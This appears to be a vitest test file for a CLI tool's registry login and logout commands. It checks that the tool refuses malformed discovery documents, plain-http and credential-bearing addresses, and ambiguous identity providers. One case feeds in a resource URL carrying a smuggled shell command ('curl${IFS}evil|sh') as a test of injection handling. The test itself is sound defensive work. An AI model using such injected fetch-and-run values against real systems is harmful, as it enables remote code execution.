import { describe, expect, test } from 'vitest';
import { commandUnderTest } from '../command-under-test.fixture.ts';
import { registryServer, type ScriptedAnswer, type SeenRequest } from './registry-server.fixture.ts';

const machine = { supervisor: 'none', env: { SKEP_SECRETS_PASSWORD: 'correct horse' } } as const;

/** A server whose document is made of its own address. */
async function announcing(
  document: (address: string) => unknown,
  more?: (one: SeenRequest) => ScriptedAnswer,
) {
  let own = '';
  const server = await registryServer((request) =>
    request.line === 'GET /.well-known/skep-registry' ? [200, document(own)] : more?.(request),
  );
  own = server.address;
  return server;
}

describe('skep login', () => {
  test.each<[why: string, document: (address: string) => unknown, said: RegExp]>([
    [
      'another server',
      () => ({ resource: 'https://elsewhere.test', sign_in: [{ issuer: 'https://idp.test' }] }),
      /says that its address is "https:\/\/elsewhere\.test"; whoever runs it has to set its resourceUrl/,
    ],
    [
      'a command',
      (address) => ({
        resource: `${address}/;curl$\{IFS}evil|sh`,
        sign_in: [{ issuer: 'https://idp.test' }],
      }),
      /evil\|sh"; whoever runs it has to set its resourceUrl/,
    ],
    [
      'a part of itself',
      (address) => ({ resource: `${address}/mcp`, sign_in: [{ issuer: 'https://idp.test' }] }),
      /says that its address is "(.*\/mcp)"; use that: skep login \1/,
    ],
    ['no way to sign in', (address) => ({ resource: address, sign_in: [] }), /cannot be read/],
    ['something else', () => ['x'], /cannot be read/],
    ['no issuer', (address) => ({ resource: address, sign_in: [{ client_id: 'x' }] }), /cannot be read/],
    [
      'several identity providers, and nobody can be asked',
      (address) => ({
        resource: address,
        sign_in: [{ issuer: 'https://a.test' }, { issuer: 'https://b.test' }],
      }),
      /several identity providers: https:\/\/a\.test, https:\/\/b\.test; choose one with --issuer/,
    ],
  ])('refuses a document that speaks of %s', async (_, document, said) => {
    const skep = await commandUnderTest(machine);
    const { address, seen } = await announcing(document);
    expect(await skep.refusal(`login --allow-private-ip ${address}`)).toMatch(said);
    expect(seen.map(({ line }) => line)).toEqual(['GET /.well-known/skep-registry']);
    expect(await skep.read(skep.places.configFile).catch(() => '')).not.toContain('registry_auth');
  });

  test('says that a server does not tell how one signs in', async () => {
    const skep = await commandUnderTest(machine);
    const { address } = await registryServer(() => undefined);
    expect(await skep.refusal(`login --allow-private-ip ${address}`)).toContain(
      `does not say how one signs in; a registry without sign-in is chosen with skep config set-registry ${address}`,
    );
  });

  test('asks nobody where nothing can be kept', async () => {
    const skep = await commandUnderTest({
      supervisor: 'none',
      env: { SKEP_SECRETS_PROVIDER: 'environment' },
    });
    const { address, seen } = await announcing((own) => ({
      resource: own,
      sign_in: [{ issuer: own, client_id: 'skep' }],
    }));
    expect(await skep.refusal(`login --allow-private-ip ${address}`)).toContain('a sign-in cannot be kept');
    expect(seen.map(({ line }) => line)).toEqual(['GET /.well-known/skep-registry']);
  });

  test.each([
    ['login', 'which registry?'],
    ['login http://registry.test', 'plain http is not safe for signing in'],
    ['login https://user:pw@registry.test', 'the address holds a login: "https://'],
    ['login http://10.0.0.5:8080 --allow-private-ip', 'is asked in the clear'],
    ['login ftp://registry.test', 'invalid address of a registry: "ftp://registry.test"'],
    ['login https://registry.test --client-secret-file absent', 'needs --client-id'],
    ['logout', 'you are signed in nowhere'],
    ['logout nonsense', 'that is no address'],
  ])('skep %s is refused', async (line, said) => {
    const skep = await commandUnderTest(machine);
    const refusal = await skep.refusal(line);
    expect(refusal).toContain(said);
    expect(refusal).not.toContain('pw@');
  });

  test('a logout where nobody signed in says so', async () => {
    const skep = await commandUnderTest(machine);
    expect(await skep.output('logout https://registry.test')).toBe('Nobody was signed in to registry.test\n');
  });
});
